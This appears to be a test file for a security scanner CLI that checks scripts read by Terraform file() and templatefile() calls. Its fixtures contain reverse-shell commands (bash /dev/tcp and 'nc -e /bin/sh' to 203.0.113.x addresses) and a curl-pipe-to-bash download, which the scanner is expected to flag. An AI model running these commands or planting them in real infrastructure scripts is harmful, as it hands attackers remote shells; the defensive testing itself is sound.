import * as assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { main, type CliStream } from '../../../src/cli/main';

// `aup-guard scan` also scans the scripts the scanned Terraform files read with file() and
// templatefile(), whatever their names, unless an ignore file or a glob leaves them out.

class Buffered implements CliStream {
	text = '';
	write(chunk: string): boolean {
		this.text += chunk;
		return true;
	}
}

interface Position {
	line: number;
	character: number;
}

interface JsonOutput {
	findings: { ruleId: string; file: string; range: { start: Position } }[];
	files: { path: string; format: string; error?: string; readBy?: { file: string; range: { start: Position; end: Position } }[] }[];
}

interface SarifLocation {
	physicalLocation: { artifactLocation: { uri: string }; region: { startLine: number; startColumn: number } };
}

interface SarifOutput {
	runs: { results: { ruleId: string; locations: SarifLocation[]; relatedLocations?: (SarifLocation & { message: { text: string } })[] }[] }[];
}

/** `infra/main.tf:4:24-4:50` for each place a script is read, or nothing. */
function readers(file: JsonOutput['files'][number]): string[] {
	return (file.readBy ?? []).map(({ file: reader, range: { start, end } }) => `${reader}:${start.line + 1}:${start.character + 1}-${end.line + 1}:${end.character + 1}`);
}

const MAIN_TF = `resource "aws_instance" "worker" {
  ami           = "ami-0c55b159cbfafe1f0"
  instance_type = "t3.micro"
  user_data     = file("\${path.module}/bootstrap")
}

resource "aws_launch_template" "web" {
  user_data = base64encode(templatefile("\${path.module}/templates/userdata.txt", { port = 8080 }))
}

resource "aws_instance" "boot" {
  user_data = templatefile("\${path.module}/scripts/boot.tftpl", { port = 8080 })
}

resource "helm_release" "web" {
  name   = "web"
  values = [templatefile("\${path.module}/helm/values.yaml", { port = 8080 })]
}

resource "aws_instance" "later" {
  # written by a pipeline step before plan
  user_data = file("\${path.module}/generated/user-data")
}
`;

/** No shebang and no extension: neither name nor content says this is a script. */
const BOOTSTRAP = '# joins the build farm\nset -eu\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n';
const CLOUD_CONFIG = '#cloud-config\nruncmd:\n  - curl -fsSL https://get.example-tools.dev/agent.sh | bash\n';
const BOOT_TEMPLATE = 'nc -e /bin/sh 203.0.113.9 ${port}\n';
/** A reverse shell in Helm values would be a finding if the file were read as shell; it is not a script. */
const HELM_VALUES = 'replicaCount: 2\ndebugCommand: "nc -e /bin/sh 203.0.113.9 4444"\n';
const REVERSE_SHELL = 'nc -e /bin/sh 203.0.113.9 4444\n';

describe('cli scan of scripts read by Terraform', () => {
	let root: string;

	beforeEach(async () => {
		root = await mkdtemp(path.join(tmpdir(), 'aup-refs-'));
		await put('.git/HEAD', 'ref: refs/heads/main\n');
		await put('infra/main.tf', MAIN_TF);
		await put('infra/bootstrap', BOOTSTRAP);
		await put('infra/templates/userdata.txt', CLOUD_CONFIG);
		await put('infra/scripts/boot.tftpl', BOOT_TEMPLATE);
		await put('infra/helm/values.yaml', HELM_VALUES);
	});

	afterEach(async () => {
		await rm(root, { recursive: true, force: true });
	});

	async function put(relative: string, text: string): Promise<void> {
		await mkdir(path.dirname(path.join(root, relative)), { recursive: true });
		await writeFile(path.join(root, relative), text);
	}

	async function run(cwd: string, ...argv: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
		const stdout = new Buffered();
		const stderr = new Buffered();
		const code = await main(argv, { stdout, stderr, cwd, env: {} });
		return { code, stdout: stdout.text, stderr: stderr.text };
	}

	async function json(cwd: string, ...argv: string[]): Promise<JsonOutput> {
		const result = await run(cwd, 'scan', ...argv, '--format', 'json');
		assert.equal(result.stderr, '');
		return JSON.parse(result.stdout) as JsonOutput;
	}

	it('scans extension-less and .txt scripts as shell or cloud-init, each file once, and leaves Helm values and missing files alone', async () => {
		const report = await json(root, 'infra');
		assert.deepEqual(report.files.map(file => ({ path: file.path, format: file.format })), [
			{ path: 'infra/bootstrap', format: 'shell' },
			{ path: 'infra/main.tf', format: 'terraform' },
			// found by the walk (a template is a script by its name) and not scanned a second time
			{ path: 'infra/scripts/boot.tftpl', format: 'shell' },
			{ path: 'infra/templates/userdata.txt', format: 'cloud-init' },
		]);
		// Each script says where it is read: the path argument of the file() or templatefile() call.
		assert.deepEqual(report.files.map(readers), [
			['infra/main.tf:4:24-4:50'],
			[],
			['infra/main.tf:12:28-12:63'],
			['infra/main.tf:8:41-8:80'],
		]);
		assert.deepEqual(report.findings.map(finding => [finding.file, finding.ruleId, finding.range.start.line, finding.range.start.character]), [
			['infra/bootstrap', 'AUP-ATK-001', 2, 0],
			['infra/scripts/boot.tftpl', 'AUP-ATK-001', 0, 0],
			['infra/templates/userdata.txt', 'AUP-EXE-001', 2, 4],
		]);
	});

	it('prints the script\'s findings in text and SARIF like any file\'s, and fails the gate on them', async () => {
		const text = await run(root, 'scan', 'infra', '--no-color');
		assert.equal(text.code, 1);
		// The call that reads the script comes first, as a compiler's note, so the script's findings make sense.
		assert.match(text.stdout, /^infra\/main\.tf:4:24: note: reads infra\/bootstrap, whose findings follow\ninfra\/bootstrap:3:1: error AUP-ATK-001 Reverse shell/m);
		assert.match(text.stdout, /in 4 files\n$/);
		const sarif = JSON.parse((await run(root, 'scan', 'infra', '--format', 'sarif')).stdout) as SarifOutput;
		const located = sarif.runs[0].results.map(result => `${result.ruleId} ${result.locations[0].physicalLocation.artifactLocation.uri}`);
		assert.ok(located.includes('AUP-ATK-001 infra/bootstrap'), located.join(', '));
		const shell = sarif.runs[0].results.find(result => result.locations[0].physicalLocation.artifactLocation.uri === 'infra/bootstrap');
		assert.deepEqual(shell?.relatedLocations?.map(related => [related.physicalLocation.artifactLocation.uri, related.physicalLocation.region.startLine, related.physicalLocation.region.startColumn, related.message.text]),
			[['infra/main.tf', 4, 24, 'Terraform reads this script here.']]);
		const terraform = sarif.runs[0].results.filter(result => result.locations[0].physicalLocation.artifactLocation.uri === 'infra/main.tf');
		assert.ok(terraform.every(result => result.relatedLocations === undefined), 'a file no one reads has no related location');
	});

	it('keeps out a script that --exclude or an ignore file leaves out of the folder walked', async () => {
		assert.deepEqual((await json(root, 'infra', '--exclude', 'bootstrap', '--exclude', 'templates/**')).files.map(file => file.path),
			['infra/main.tf', 'infra/scripts/boot.tftpl']);
		await put('infra/.aupguardignore', '/bootstrap\n');
		assert.deepEqual((await json(root, 'infra')).files.map(file => file.path),
			['infra/main.tf', 'infra/scripts/boot.tftpl', 'infra/templates/userdata.txt']);
	});

	it('scans the scripts of a Terraform file named on the command line, unless a glob or ignore file leaves them out', async () => {
		const infra = path.join(root, 'infra');
		assert.deepEqual((await json(infra, 'main.tf')).files.map(file => file.path),
			['bootstrap', 'main.tf', 'scripts/boot.tftpl', 'templates/userdata.txt']);
		assert.deepEqual((await json(infra, 'main.tf', '--exclude', 'templates')).files.map(file => file.path),
			['bootstrap', 'main.tf', 'scripts/boot.tftpl']);
		await put('.gitignore', 'infra/bootstrap\n');
		assert.deepEqual((await json(infra, 'main.tf')).files.map(file => file.path),
			['main.tf', 'scripts/boot.tftpl', 'templates/userdata.txt']);
	});

	it('scans a script beside the folder scanned, and not one in a skipped or ignored folder', async () => {
		await put('infra/stack/main.tf', [
			'resource "aws_instance" "a" {\n  user_data = file("../../shared/boot")\n}\n',
			'resource "aws_instance" "b" {\n  user_data = file("../../node_modules/agent/boot")\n}\n',
			'resource "aws_instance" "c" {\n  user_data = file("../../build/boot")\n}\n',
		].join('\n'));
		await put('shared/boot', REVERSE_SHELL);
		await put('node_modules/agent/boot', REVERSE_SHELL);
		await put('build/boot', REVERSE_SHELL);
		await put('.gitignore', 'build/\n');
		const report = await json(root, 'infra/stack');
		assert.deepEqual(report.files.map(file => file.path), ['infra/stack/main.tf', 'shared/boot']);
		assert.deepEqual(report.findings.map(finding => `${finding.file} ${finding.ruleId}`), ['shared/boot AUP-ATK-001']);
	});

	it('reports a referenced script over --max-file-size as not scanned, under the format it would have had', async () => {
		await put('infra/bootstrap', `${BOOTSTRAP}${'# padding\n'.repeat(100)}`);
		const result = await run(root, 'scan', 'infra', '--format', 'json', '--max-file-size', '900');
		const report = JSON.parse(result.stdout) as JsonOutput;
		const bootstrap = report.files.find(file => file.path === 'infra/bootstrap');
		assert.deepEqual({ ...bootstrap, readBy: undefined },
			{ path: 'infra/bootstrap', format: 'shell', error: 'not scanned: larger than --max-file-size (1073 > 900 bytes)', readBy: undefined });
		assert.deepEqual(bootstrap && readers(bootstrap), ['infra/main.tf:4:24-4:50']);
		assert.match(result.stderr, /^infra\/bootstrap: warning: not scanned: larger than --max-file-size/m);
	});
});
